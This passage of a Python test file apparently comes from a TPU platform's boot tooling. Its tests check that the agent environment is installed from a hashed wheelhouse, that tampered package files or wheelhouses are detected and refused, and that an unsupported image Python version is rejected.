    assert done.returncode == 0, done.stderr
    env = tmp_path / "root/opt/tpu-platform/agent-env" / of.agent_environment.sha256
    assert f"agent environment {env} installed from {of.agent_environment.sha256}.tar.gz" in done.stdout
    wheelhouse = tmp_path / "root/opt/tpu-platform/agent-wheelhouse" / f"{of.agent_environment.sha256}.tar.gz"
    assert wheelhouse.stat().st_mode & 0o777 == 0o600 and env.parent.stat().st_mode & 0o777 == 0o700
    unit = (tmp_path / f"root/etc/systemd/system/{AGENT_UNIT}").read_text()
    assert f"ExecStart={env}/bin/python -u -m vm_agent\n" in unit
    where = subprocess.run(
        [str(env / "bin/python"), "-c", "import google.cloud.storage as s; print(s.__version__, s.__file__)"],
        capture_output=True,
        text=True,
        env={"PATH": os.environ["PATH"], "PYTHONDONTWRITEBYTECODE": "1"},
    )
    version, path = where.stdout.split()
    assert version == pins((ROOT / "requirements-agent.lock").read_text())["google-cloud-storage"]
    assert Path(path).is_relative_to(env)

    done, _ = boot(tmp_path, {"agent-worker-number": "0"}, artifacts, of=of)
    assert done.returncode == 0 and f"agent environment {env} verified" in done.stdout, done.stdout + done.stderr

    edited = next(env.glob("lib/python3.*/site-packages/requests/api.py"))
    original = edited.read_bytes()
    edited.write_bytes(original + b"\nimport os  # planted\n")
    done, _ = boot(tmp_path, {"agent-worker-number": "0"}, artifacts, of=of)
    assert done.returncode == 0, done.stderr
    assert f"agent environment {env}: {edited} does not match its RECORD" in done.stdout
    assert f"agent environment {env} installed from" in done.stdout
    assert edited.read_bytes() == original


def test_a_tampered_wheelhouse_is_refused_and_nothing_starts(tmp_path, artifacts):
    """A wheelhouse in the bucket that does not hash to the digest the stack shipped (one wheel changed) is
    never unpacked or installed: the boot says so once and exits 78."""
    real = own_folder_spec()
    tampered = dataclasses.replace(
        real, agent_environment=Artifact(ARTIFACTS, TAMPERED_WHEELHOUSE, real.agent_environment.sha256)
    )
    done, env = boot(tmp_path, {"agent-worker-number": "0"}, artifacts, of=tampered)
    assert done.returncode == EXIT_CONFIG, done.stderr
    sha256 = real.agent_environment.sha256
    assert (
        f"FATAL: the agent's wheelhouse gs://{ARTIFACTS}/{TAMPERED_WHEELHOUSE} does not match its digest {sha256}"
        in done.stderr
    )
    assert not (tmp_path / "systemctl").exists() and env == {}
    assert list((tmp_path / "root/opt/tpu-platform/agent-wheelhouse").iterdir()) == []
    assert not (tmp_path / "root/opt/tpu-platform/agent-env").exists()


# An image whose python3 is 3.8 (Ubuntu 20.04's), which no wheel of the agent's wheelhouse serves.
PYTHON_38_IMAGE = """#!/bin/bash
case "$*" in
  *"sys.version_info[:2]"*) echo 3.8 ;;
  *) exit 1 ;;
esac
"""


def test_an_image_python_the_agents_wheelhouse_does_not_serve_fails_once(tmp_path):
    """The catalog does not know every image's Python (TensorFlow runtimes): the boot checks it before it
    fetches anything, and refuses once."""
    done, folder = boot_with(render_startup_script(own_folder_spec()), PYTHON_38_IMAGE, tmp_path)
    assert done.returncode == EXIT_CONFIG
    fatal = [line for line in done.stderr.splitlines() if "FATAL" in line]
    assert fatal == [
        "tpu-platform: FATAL: the platform's agent runs on Python 3.10, 3.11, 3.12 (its wheelhouse's wheels); "
        f"this image has Python 3.8; not starting {AGENT_UNIT}. Fix the stack (see the plan's catalog checks)."
    ]
    assert not (folder / "systemctl").exists()
